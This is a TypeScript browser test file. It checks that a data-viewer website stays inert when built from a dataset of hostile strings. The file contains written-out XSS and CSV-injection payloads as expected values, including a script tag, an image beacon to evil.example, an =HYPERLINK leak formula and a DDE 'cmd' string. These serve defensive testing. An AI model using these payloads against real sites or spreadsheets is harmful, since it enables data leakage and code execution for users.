/**
 * The site built from a dataset full of hostile strings (see fixtures/hostile.ts): on every kind of
 * page nothing runs (no dialog, no `window.__pwned`, no script or handler in the DOM, no request to
 * another origin, no CSP report), no link leaves http(s), the strings are shown as text, and the
 * layout holds at desktop and phone width, even with a 100,000-character quote.
 */
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { HostileFixture } from './fixtures/hostile.js';
import {
  browserSession,
  DESKTOP,
  describeViolations,
  horizontalOverflow,
  PHONE,
  runAxe,
  screenshot,
  sites,
  tmpRoot,
  visit,
  WIDTHS,
  type Watched,
} from './support.js';

const session = browserSession(sites.hostile);
let fixture: HostileFixture;

beforeAll(() => {
  fixture = JSON.parse(
    fs.readFileSync(path.join(tmpRoot, 'hostile-fixture.json'), 'utf8'),
  ) as HostileFixture;
});

const claim = (id: string) => `#/claim/${encodeURIComponent(id)}`;

/** What the DOM holds that could run or leave the site. */
async function inspect(w: Watched) {
  return w.page.evaluate(() => {
    const all = [...document.querySelectorAll('*')];
    return {
      pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
      scripts: [...document.scripts].map(
        (s) => s.getAttribute('src') ?? `inline: ${s.textContent?.slice(0, 60)}`,
      ),
      handlers: all.flatMap((el) =>
        [...el.attributes]
          .filter((a) => /^on/i.test(a.name))
          .map((a) => `${el.tagName}[${a.name}]`),
      ),
      // Our own stylesheet is the one link allowed.
      embeds: [
        ...document.querySelectorAll(
          'iframe, object, embed, img, style, link[rel~="stylesheet"], base, meta[http-equiv="refresh"]',
        ),
      ]
        .filter(
          (el) =>
            !(
              el.matches('link[rel~="stylesheet"]') &&
              /^\.\/assets\/[\w.-]+\.css$/.test(el.getAttribute('href') ?? '')
            ),
        )
        .map((el) => el.outerHTML.slice(0, 120)),
      links: [...document.querySelectorAll('a[href]')].map((a) => ({
        href: a.getAttribute('href')!,
        rel: a.getAttribute('rel') ?? '',
      })),
      svgLinks: [...document.querySelectorAll('svg a')].map((a) => a.getAttribute('href') ?? ''),
      langs: [...document.querySelectorAll('[lang]')].map((el) => el.getAttribute('lang')!),
      bodyDisplay: getComputedStyle(document.body).display,
      text: document.body.innerText,
    };
  });
}

const PAGES = (f: HostileFixture): [string, string][] => [
  ['overview', '#/'],
  ['charts', '#/charts?metric=arrests&place=united-kingdom'],
  ['claims', '#/claims'],
  ['claims-search', '#/claims?q=script'],
  ['claim-huge-quote', claim(f.claims.huge)],
  ['claim-markup', claim(f.claims.script)],
  ['claim-bad-url', claim(f.claims.badUrl)],
  ['sources', '#/sources?q=script'],
  ['source-bad-url', `#/source/${f.sources.badUrl}`],
  ['source-markup', `#/source/${f.sources.script}`],
  ['timeline', '#/timeline'],
  ['about', '#/about'],
  ['download', '#/download'],
];

describe('a hostile dataset', () => {
  for (const [label, viewport] of WIDTHS) {
    it(`is inert and keeps the layout on every page at ${label} width`, async () => {
      for (const [name, hash] of PAGES(fixture)) {
        const started = Date.now();
        const w = await session.open(viewport);
        await visit(w, session.url, hash);
        // Let anything that was going to run, run: point at and focus the marks of the charts (their
        // tooltips show the hostile quotes).
        for (const mark of (await w.page.locator('a.mark').all()).slice(0, 12)) {
          await mark.dispatchEvent('mouseenter');
          await mark.focus();
        }
        await w.page.waitForTimeout(50);
        const dom = await inspect(w);
        const where = `${name} (${label})`;
        expect(await w.page.locator('html').getAttribute('data-ready'), where).toBe('true');
        expect(dom.pwned, `${where}: window.__pwned`).toBeNull();
        expect(w.dialogs, `${where}: dialogs`).toEqual([]);
        expect(w.foreignRequests, `${where}: requests to other origins`).toEqual([]);
        expect(w.consoleProblems, `${where}: console (CSP reports appear here)`).toEqual([]);
        expect(w.pageErrors, `${where}: uncaught errors`).toEqual([]);
        expect(
          dom.scripts.every((s) => /^\.\/assets\/[\w.-]+\.js$/.test(s)),
          `${where}: scripts ${dom.scripts.join(', ')}`,
        ).toBe(true);
        expect(dom.handlers, `${where}: event handler attributes`).toEqual([]);
        expect(dom.embeds, `${where}: embedded content`).toEqual([]);
        for (const { href, rel } of dom.links) {
          if (/^https?:\/\//i.test(href))
            expect(rel.split(/\s+/).sort(), `${where}: rel of ${href}`).toEqual(
              expect.arrayContaining(['noopener', 'noreferrer']),
            );
          else
            expect(href, `${where}: link`).toMatch(
              /^(#\/|#main$|downloads\/|data\/bundle\.json$|CHANGELOG\.md$|blob:)/,
            );
        }
        for (const href of dom.svgLinks)
          expect(href, `${where}: chart link`).toMatch(/^#\/claim\//);
        for (const lang of dom.langs)
          expect(lang, `${where}: lang`).toMatch(/^[a-z]{2,3}(-[A-Za-z0-9]{2,8})*$/);
        expect(dom.bodyDisplay, `${where}: injected CSS`).not.toBe('none');
        expect(
          await horizontalOverflow(w.page),
          `${where}: horizontal overflow (px)`,
        ).toBeLessThanOrEqual(0);
        const checked = Date.now();
        await screenshot(w.page, `hostile-${name}-${label}`);
        await w.context.close();
        if (process.env.VIEWER_TEST_TIMINGS)
          console.log(
            `${name} ${label}: checks ${checked - started} ms, screenshot ${Date.now() - checked} ms`,
          );
      }
    });
  }

  it('shows the hostile strings as text, and the 100,000-character quote whole but contained', async () => {
    const w = await session.open(PHONE);
    await visit(w, session.url, claim(fixture.claims.huge));
    const quote = w.page.locator('blockquote');
    const text = (await quote.textContent())!;
    expect(text.length).toBe(
      100_000 + '<script>window.__pwned = "script"; alert(1)</script>'.length,
    );
    expect(text.startsWith('<script>window.__pwned')).toBe(true);
    const box = (await quote.boundingBox())!;
    expect(box.width).toBeLessThanOrEqual(PHONE.width);
    // Scrolls inside its box rather than making the page endless.
    expect(box.height).toBeLessThanOrEqual(PHONE.height);
    await visit(w, session.url, claim(fixture.claims.script));
    expect((await inspect(w)).text).toContain('<img src="http://evil.example/pixel.png"');
    // A javascript: address is shown, never linked.
    await visit(w, session.url, `#/source/${fixture.sources.badUrl}`);
    const dom = await inspect(w);
    expect(
      dom.links.some((l) => /script:|^data:|^vbscript:|^file:|^\/\//i.test(l.href.trim())),
    ).toBe(false);
    expect(w.foreignRequests).toEqual([]);
    await w.context.close();
  });

  it('has no axe violation on a claim page full of hostile strings', async () => {
    const w = await session.open();
    await visit(w, session.url, claim(fixture.claims.script));
    const violations = await runAxe(w.page);
    expect(violations, describeViolations(violations)).toEqual([]);
    await w.context.close();
  });

  it('escapes formulas in the CSV of the filtered view', async () => {
    const w = await session.open(DESKTOP, { acceptDownloads: true });
    await visit(w, session.url, `#/claims?source=${fixture.claims.formula.split('/')[0]}`);
    const [download] = await Promise.all([
      w.page.waitForEvent('download'),
      w.page.click('#csv-button'),
    ]);
    const csv = fs.readFileSync((await download.path())!, 'utf8');
    expect(csv).toContain(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"") +cmd|' /C calc'!A0 @SUM(1) -2+3"`,
    );
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    await w.context.close();
  });
});
